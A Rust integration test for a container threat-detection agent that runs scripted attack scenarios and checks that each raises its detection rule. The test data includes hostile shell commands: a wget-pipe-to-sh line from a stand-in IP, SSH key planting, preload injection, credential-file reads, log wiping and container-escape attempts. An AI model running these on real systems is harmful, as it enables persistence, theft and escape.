//! The attack suite, for real: the agent learns a Stable profile of demo/web:1.0 from
//! benign replays (3 snapshots to Stable, 3 s snapshots, 2 profiling slots), then each
//! attack runs in a fresh container of that image (the benign start, then the attack), beside
//! two fresh benign replays, so the host runs many more containers than there are slots.
//! Every attack must raise the rule named for it on its own container; the benign replays
//! must raise nothing (no rule, no drift). The table (scenario, tactic, what fired, time from
//! the action's event to the signal being readable through the socket) is printed and, when
//! `WSPROF_DETECTION_OUT` names a file, written there as Markdown (DETECTION.md's table).
//! Without root/BTF/podman it prints why and skips; with CI=true it fails instead.

mod common;

use common::{podman, podman_service, prerequisites_or_skip, run_web, run_web_with, Agent};
use std::collections::BTreeMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Mutex;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

/// What the image does normally (what the profile learns).
const BENIGN: &str =
    "while true; do cat /etc/passwd > /dev/null; ls /www > /dev/null; sleep 1; done";

struct Attack {
    name: &'static str,
    tactic: &'static str,
    /// Run after the benign start-up.
    script: &'static str,
    /// The rule that must fire on the attacker's container (any of these).
    rules: &'static [&'static str],
    /// Text the signal must carry (the evidence a person looks for).
    evidence: &'static str,
    /// More `podman run` options.
    options: &'static [&'static str],
}

const ATTACKS: &[Attack] = &[
    Attack {
        name: "cron job added (/etc/crontabs/root)",
        tactic: "persistence",
        script: "mkdir -p /etc/crontabs; echo '* * * * * /tmp/x' >> /etc/crontabs/root",
        rules: &["crontab-modified"],
        evidence: "/etc/crontabs/root",
        options: &[],
    },
    Attack {
        name: "SSH key planted (/root/.ssh/authorized_keys)",
        tactic: "persistence",
        script: "mkdir -p /root/.ssh; echo 'ssh-ed25519 AAAAC3Nza attacker' >> /root/.ssh/authorized_keys",
        rules: &["ssh-authorized-keys-modified"],
        evidence: "authorized_keys",
        options: &[],
    },
    Attack {
        name: "library preload (/etc/ld.so.preload)",
        tactic: "persistence",
        script: "echo /tmp/evil.so > /etc/ld.so.preload",
        rules: &["ld-so-preload-modified"],
        evidence: "/etc/ld.so.preload",
        options: &[],
    },
    Attack {
        name: "shell start-up file changed (/etc/profile)",
        tactic: "persistence",
        script: "echo 'wget -qO- http://198.51.100.7/x | sh' >> /etc/profile",
        rules: &["shell-profile-modified"],
        evidence: "/etc/profile",
        options: &[],
    },
    Attack {
        name: "failed read of /etc/shadow",
        tactic: "credential access",
        script: "cat /etc/shadow 2>/dev/null",
        rules: &["credential-file-access-attempt", "shadow-file-read"],
        evidence: "/etc/shadow",
        options: &[],
    },
    Attack {
        name: "another process's environment (/proc/1/environ)",
        tactic: "credential access",
        script: "cat /proc/1/environ > /dev/null",
        rules: &["proc-environ-read"],
        evidence: "/proc/1/environ",
        options: &[],
    },
    Attack {
        name: "cloud metadata endpoint (169.254.169.254:80)",
        tactic: "credential access",
        script: "nc -w 1 169.254.169.254 80 < /dev/null 2>/dev/null",
        rules: &["cloud-metadata-connect"],
        evidence: "169.254.169.254",
        options: &[],
    },
    Attack {
        name: "shell history deleted",
        tactic: "defence evasion",
        script: "mkdir -p /root; echo id > /root/.ash_history; rm -f /root/.ash_history",
        rules: &["history-file-deleted"],
        evidence: ".ash_history",
        options: &[],
    },
    Attack {
        name: "log file emptied (/var/log/messages)",
        tactic: "defence evasion",
        script: "mkdir -p /var/log; : > /var/log/messages",
        rules: &["log-file-truncated"],
        evidence: "/var/log/messages",
        options: &[],
    },
    Attack {
        name: "binary renamed like runtime glue (/tmp/runc)",
        tactic: "defence evasion",
        script: "cp /bin/busybox /tmp/runc; /tmp/runc cat /etc/passwd > /dev/null",
        rules: &["exec-from-temp-dir"],
        evidence: "/tmp/runc",
        options: &[],
    },
    Attack {
        name: "timestamps forged (touch -d)",
        tactic: "defence evasion",
        script: "/bin/touch -d '2001-01-01 00:00' /www/index.html",
        rules: &["timestamp-changed-with-touch"],
        evidence: "touch",
        options: &[],
    },
    Attack {
        name: "setuid shell dropped (chmod u+s)",
        tactic: "privilege escalation",
        script: "cp /bin/busybox /tmp/.sh; chmod u+s /tmp/.sh",
        rules: &["setuid-bit-set"],
        evidence: "/tmp/.sh",
        options: &[],
    },
    Attack {
        name: "runtime socket probed (/var/run/docker.sock)",
        tactic: "container escape",
        script: "cat /var/run/docker.sock 2>/dev/null",
        rules: &["container-runtime-socket-access"],
        evidence: "/var/run/docker.sock",
        options: &[],
    },
    Attack {
        name: "host disk mount attempted",
        tactic: "container escape",
        script: "mkdir -p /mnt/host; mount -t ext4 /dev/vda /mnt/host 2>/dev/null",
        rules: &["mount-from-container", "host-device-mounted"],
        evidence: "/mnt/host",
        options: &[],
    },
    Attack {
        name: "new mount API (fsopen ext4)",
        tactic: "container escape",
        script: "/probe/probe fsopen ext4 2>/dev/null",
        rules: &["mount-from-container"],
        evidence: "ext4",
        options: &[],
    },
    Attack {
        name: "setuid bit set through an fd (fchmod)",
        tactic: "privilege escalation",
        script: "cp /bin/busybox /tmp/.fd-sh; /probe/probe fchmod /tmp/.fd-sh",
        rules: &["setuid-bit-set"],
        evidence: "/tmp/.fd-sh",
        options: &[],
    },
    Attack {
        name: "io_uring ring set up (I/O unseen by syscall tracing)",
        tactic: "defence evasion",
        script: "/probe/probe io_uring",
        rules: &["io-uring-in-container"],
        evidence: "io_uring_setup",
        // podman's default seccomp profile refuses io_uring (the syscall never reaches its
        // tracepoint); a pod without a seccompProfile runs unconfined in Kubernetes.
        options: &["--security-opt", "seccomp=unconfined"],
    },
    Attack {
        name: "mining pool looked up over DNS-over-TCP",
        tactic: "impact",
        // the listener may take a moment to bind on a busy host: retry the query. The query
        // comes from a file, so nc sends it in one write (a pipe from printf could split it
        // after its first byte, which is no DNS-over-TCP framing a client uses).
        script: "nc -l -p 53 > /dev/null & for i in 1 2 3 4 5 6; do sleep 0.5; \
                 nc -w 1 127.0.0.1 53 < /probe/query.bin && break; done",
        rules: &["mining-pool-dns"],
        evidence: "xmr.pool.minexmr.com",
        options: &[],
    },
    Attack {
        name: "environment read through a symlink (/tmp/e -> /proc/1/environ)",
        tactic: "credential access",
        // the rule names /proc/*/environ: the open is known by the file the kernel opened,
        // the link kept beside it
        script: "ln -s /proc/1/environ /tmp/e; cat /tmp/e > /dev/null",
        rules: &["proc-environ-read"],
        evidence: "/proc/1/environ (read) requested as /tmp/e",
        options: &[],
    },
];

/// A DNS-over-TCP query: 2-byte length, header, one A question for `name`.
fn tcp_dns_query(name: &str) -> Vec<u8> {
    let mut msg: Vec<u8> = vec![0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        msg.push(label.len() as u8);
        msg.extend_from_slice(label.as_bytes());
    }
    msg.extend_from_slice(&[0, 0, 1, 0, 1]);
    let mut framed = (msg.len() as u16).to_be_bytes().to_vec();
    framed.extend(msg);
    framed
}

/// Build the static probe (tests/probe/probe.c) into `dir`, with the DNS query beside it.
fn build_probe(dir: &std::path::Path) {
    let src = common::repo().join("tui/tests/probe/probe.c");
    let out = std::process::Command::new("cc")
        .args(["-static", "-O2", "-o"])
        .arg(dir.join("probe"))
        .arg(&src)
        .output()
        .expect("cc (gcc and libc6-dev: scripts/setup.sh)");
    assert!(
        out.status.success(),
        "building the probe: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    std::fs::write(dir.join("query.bin"), tcp_dns_query("xmr.pool.minexmr.com")).unwrap();
}

/// The interactive-session scenario: `podman exec` into a running container (its script is
/// the exec the test makes, not one the container runs).
static SESSION: Attack = Attack {
    name: "interactive session (podman exec ... id)",
    tactic: "execution",
    script: "",
    rules: &["interactive-session-into-container"],
    evidence: "[exec session]",
    options: &[],
};

/// Scenario `i`: the attacks, then the session.
fn attack_at(i: usize) -> &'static Attack {
    ATTACKS.get(i).unwrap_or(&SESSION)
}

/// The container scenario `i` ran in.
fn target<'a>(i: usize, attackers: &'a [String], session: &'a str) -> &'a str {
    attackers.get(i).map_or(session, String::as_str)
}

struct Outcome {
    fired: Vec<String>,
    drift: bool,
    latency_ms: Option<i64>,
}

fn now_ms() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .unwrap()
        .as_millis() as i64
}

#[test]
fn every_attack_raises_its_rule_and_benign_replays_raise_nothing() {
    if !prerequisites_or_skip("every_attack_raises_its_rule_and_benign_replays_raise_nothing") {
        return;
    }
    if std::process::Command::new("cc")
        .arg("--version")
        .output()
        .is_err()
    {
        let why = "no C compiler (cc) to build the probe: gcc and libc6-dev, scripts/setup.sh";
        assert!(std::env::var("CI").map_or(true, |v| v != "true"), "{why}");
        eprintln!("SKIP every_attack_raises_its_rule_and_benign_replays_raise_nothing: {why}");
        return;
    }
    let tmp = tempfile::tempdir().unwrap();
    let config = tmp.path().join("config.toml");
    std::fs::write(&config, "[lifecycle]\nsnapshots_to_stable = 3\n").unwrap();
    let pid = std::process::id();
    let name = |n: &str| format!("wsprof-attack-{n}-{pid}");
    let mut names: Vec<String> = ["benign-a", "benign-b", "benign-c", "benign-d", "session"]
        .iter()
        .map(|n| name(n))
        .collect();
    names.extend((0..ATTACKS.len()).map(|i| name(&format!("a{i}"))));
    let podsock = tmp.path().join("podman.sock");
    let refs: Vec<&str> = names.iter().map(String::as_str).collect();
    let _pods = podman_service(&podsock, &refs);
    let probe_dir = tmp.path().join("probe");
    std::fs::create_dir_all(&probe_dir).unwrap();
    build_probe(&probe_dir);
    let volume = format!("{}:/probe:ro", probe_dir.display());
    let agent = Agent::start(tmp.path(), &podsock, &config, &["--max-containers", "2"]);

    // benign replays until the profile is Stable
    let mut benign: Vec<String> = names[..2].iter().map(|n| run_web(n, BENIGN)).collect();
    agent.wait_web_stable(Duration::from_secs(90));

    // A poller reads the queue through the socket from now on and notes when each
    // (container, rule) first became readable: the action-to-signal time.
    let first_seen: Mutex<BTreeMap<(String, String), i64>> = Mutex::new(BTreeMap::new());
    let stop = AtomicBool::new(false);
    let total = ATTACKS.len() + 1;
    let (attackers, session, signals) = std::thread::scope(|scope| {
        scope.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                let all = agent.json(&["signals", "--json"]);
                let at = now_ms();
                let mut seen = first_seen.lock().unwrap();
                for s in all.as_array().unwrap() {
                    let key = (
                        s["container_id"].as_str().unwrap_or("").to_string(),
                        s["rule_id"].as_str().unwrap_or("").to_string(),
                    );
                    seen.entry(key).or_insert(at);
                }
                drop(seen);
                std::thread::sleep(Duration::from_millis(200));
            }
        });
        // every attack in a fresh container, two fresh benign replays, the session target
        let attackers: Vec<String> = ATTACKS
            .iter()
            .enumerate()
            .map(|(i, a)| {
                let script = format!(
                    "cat /etc/passwd > /dev/null; sleep 3; {}; {BENIGN}",
                    a.script
                );
                let mut options = vec!["-v", volume.as_str()];
                options.extend_from_slice(a.options);
                run_web_with(&name(&format!("a{i}")), &options, &script)
            })
            .collect();
        benign.extend(names[2..4].iter().map(|n| run_web(n, BENIGN)));
        let session = run_web(&names[4], BENIGN);
        // A session is a new root while the container's own processes run: give the capture
        // time to see this container's workload among the 23 starting at once (3 s missed it
        // about once in ten runs on a cold host).
        std::thread::sleep(Duration::from_secs(8));
        let exec = podman()
            .args(["exec", &names[4], "/bin/id"])
            .output()
            .expect("podman exec");
        assert!(exec.status.success(), "podman exec failed");
        // until every attack is seen (or 90 s)
        let wait_start = Instant::now();
        loop {
            let seen = first_seen.lock().unwrap();
            let done = (0..total).all(|i| {
                let id = target(i, &attackers, &session);
                attack_at(i)
                    .rules
                    .iter()
                    .any(|r| seen.contains_key(&(id.to_string(), r.to_string())))
            });
            drop(seen);
            if done || wait_start.elapsed() > Duration::from_secs(90) {
                break;
            }
            std::thread::sleep(Duration::from_millis(250));
        }
        stop.store(true, Ordering::Relaxed);
        let signals = agent.json(&["signals", "--json"]);
        (attackers, session, signals)
    });
    let seen = first_seen.into_inner().unwrap();
    let list = signals.as_array().unwrap().clone();

    // what fired per container, and how long after the action's event
    let outcome = |i: usize| -> Outcome {
        let (id, rules) = (target(i, &attackers, &session), attack_at(i).rules);
        let theirs: Vec<&serde_json::Value> =
            list.iter().filter(|s| s["container_id"] == id).collect();
        let mut fired: Vec<String> = theirs
            .iter()
            .filter(|s| s["kind"] == "rule")
            .map(|s| s["rule_id"].as_str().unwrap_or("").to_string())
            .collect();
        fired.sort();
        fired.dedup();
        let event_ms = theirs
            .iter()
            .filter(|s| rules.iter().any(|r| s["rule_id"] == *r))
            .filter_map(|s| s["ts_ms"].as_i64())
            .min();
        let seen_ms = rules
            .iter()
            .filter_map(|r| seen.get(&(id.to_string(), r.to_string())))
            .min();
        Outcome {
            fired,
            drift: theirs.iter().any(|s| s["kind"] == "drift"),
            latency_ms: seen_ms.zip(event_ms).map(|(at, ev)| (at - ev).max(0)),
        }
    };

    let mut table = String::from(
        "| # | scenario | tactic | expected rule | fired (rules on its container) | drift | action to signal |\n\
         |---|---|---|---|---|---|---|\n",
    );
    let mut missed = Vec::new();
    for i in 0..total {
        let Attack {
            name: scenario,
            tactic,
            rules,
            evidence,
            ..
        } = attack_at(i);
        let o = outcome(i);
        let id = target(i, &attackers, &session);
        let has_evidence = list.iter().any(|s| {
            s["container_id"] == id
                && rules.iter().any(|r| s["rule_id"] == *r)
                && s.to_string().contains(evidence)
        });
        if o.latency_ms.is_none() || !has_evidence {
            missed.push(format!(
                "{scenario}: wanted {rules:?} naming {evidence:?}, fired {:?}",
                o.fired
            ));
        }
        table.push_str(&format!(
            "| {} | {scenario} | {tactic} | {} | {} | {} | {} |\n",
            i + 1,
            rules.join(" or "),
            if o.fired.is_empty() {
                "none".to_string()
            } else {
                o.fired.join(", ")
            },
            if o.drift { "yes" } else { "no" },
            o.latency_ms
                .map(|l| format!("{:.1} s", l as f64 / 1000.0))
                .unwrap_or_else(|| "missed".into()),
        ));
    }
    let benign_raised: Vec<&serde_json::Value> = list
        .iter()
        .filter(|s| benign.iter().any(|b| s["container_id"] == b.as_str()))
        .collect();
    table.push_str(&format!(
        "\nBenign replays: {} containers ({} learning, {} fresh beside the attacks), {} signal(s) \
         raised on them ({} drift). Containers of the image running at once: {}, profiling \
         slots: 2.\n",
        benign.len(),
        2,
        benign.len() - 2,
        benign_raised.len(),
        benign_raised
            .iter()
            .filter(|s| s["kind"] == "drift")
            .count(),
        names.len(),
    ));
    println!("{table}");
    if let Ok(out) = std::env::var("WSPROF_DETECTION_OUT") {
        std::fs::write(out, &table).unwrap();
    }
    assert!(
        missed.is_empty(),
        "attacks not detected:\n{}\n{table}",
        missed.join("\n")
    );
    assert!(
        benign_raised.is_empty(),
        "benign replays raised signals: {benign_raised:#?}"
    );
}
